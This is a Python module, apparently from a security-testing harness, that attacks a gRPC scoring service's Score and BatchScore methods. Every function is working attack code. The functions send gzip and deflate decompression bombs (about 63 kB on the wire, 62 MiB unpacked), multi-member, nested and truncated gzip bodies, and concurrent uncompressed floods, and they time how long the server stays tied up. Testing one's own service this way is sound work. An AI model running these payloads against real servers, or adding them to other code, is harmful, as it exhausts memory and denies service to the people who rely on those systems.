"""Messages that are small on the wire and large in memory, and plain ones that are large in both."""

import gzip
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from typing import Any

from attacks.peer import BATCH_SCORE, SCORE, Peer, grpc_message

EMPTY_REQUEST = b"\x0a\x00"
"""An entry of BatchScoreRequest.requests without anything in it."""
EMPTY_TURN = b"\x22\x00"
"""An entry of ScoreRequest.history without anything in it."""
FULL = 31 << 20
"""Repetitions that gave 62 MiB, just inside the transport's limit of 64 MiB when it was found."""


def gzip_batch(address: str, repeats: int = FULL) -> dict[str, Any]:
    """BatchScore of empty requests, gzip: some 63 kB on the wire for 62 MiB."""
    return _one(address, BATCH_SCORE, gzip.compress(EMPTY_REQUEST * repeats), "gzip")


def gzip_history(address: str, repeats: int = FULL) -> dict[str, Any]:
    """Score with a history of empty turns, gzip."""
    return _one(address, SCORE, gzip.compress(EMPTY_TURN * repeats), "gzip")


def deflate_batch(address: str, repeats: int = FULL) -> dict[str, Any]:
    """BatchScore of empty requests, deflate."""
    return _one(address, BATCH_SCORE, zlib.compress(EMPTY_REQUEST * repeats), "deflate")


def plain_batches(address: str, callers: int = 8, size: int = 8 << 20) -> dict[str, Any]:
    """BatchScore of empty requests, not compressed, from several connections at once.

    Args:
        address: Host and port of the server.
        callers: Connections.
        size: Bytes of each message; the default is the configured limit's own default.
    """
    body = EMPTY_REQUEST * ((size - 64) // len(EMPTY_REQUEST))
    with ThreadPoolExecutor(callers) as pool:
        answers = list(pool.map(lambda _: _one(address, BATCH_SCORE, body, None), range(callers)))
    return {"callers": callers, "wire_bytes": len(body) * callers, "answers": answers}


def gzip_members(address: str, repeats: int = FULL, members: int = 32) -> dict[str, Any]:
    """One gzip body made of several members, each of which holds a share of the empty requests."""
    member = gzip.compress(EMPTY_REQUEST * (repeats // members))
    return _one(address, BATCH_SCORE, member * members, "gzip")


def gzip_in_gzip(address: str, repeats: int = FULL) -> dict[str, Any]:
    """A gzip body whose content is a gzip body: a service that unpacked until nothing is packed would have 62 MiB."""
    return _one(address, BATCH_SCORE, gzip.compress(gzip.compress(EMPTY_REQUEST * repeats)), "gzip")


def gzip_cut_short(address: str, repeats: int = FULL) -> dict[str, Any]:
    """A gzip body of which only the first half is there."""
    whole = gzip.compress(EMPTY_REQUEST * repeats)
    return _one(address, BATCH_SCORE, whole[: len(whole) // 2], "gzip")


def gzip_many(address: str, repeats: int = FULL, callers: int = 8) -> dict[str, Any]:
    """`gzip_batch` from several connections at once."""
    body = gzip.compress(EMPTY_REQUEST * repeats)
    with ThreadPoolExecutor(callers) as pool:
        answers = list(pool.map(lambda _: _one(address, BATCH_SCORE, body, "gzip"), range(callers)))
    return {"callers": callers, "wire_bytes": len(body) * callers, "answers": answers}


def _one(address: str, method: str, body: bytes, encoding: str | None, answer_s: float = 30.0) -> dict[str, Any]:
    """One call on a connection of its own; the answer is waited for longer than an attack lasts, since it is what
    shows for how long the server was busy."""
    started_s = time.monotonic()
    with Peer(address) as peer:
        stream = peer.open_call(method, [("grpc-encoding", encoding)] if encoding else [])
        peer.send_data(stream, grpc_message(body, compressed=bool(encoding)))
        peer.read_answers(answer_s)
        call = peer.calls[stream]
        return {
            "wire_bytes": len(body),
            "outcome": call.outcome,
            "message": call.headers.get("grpc-message", "")[:200],
            "answer_bytes": call.received_bytes,
            "seconds": round(time.monotonic() - started_s, 2),
        }
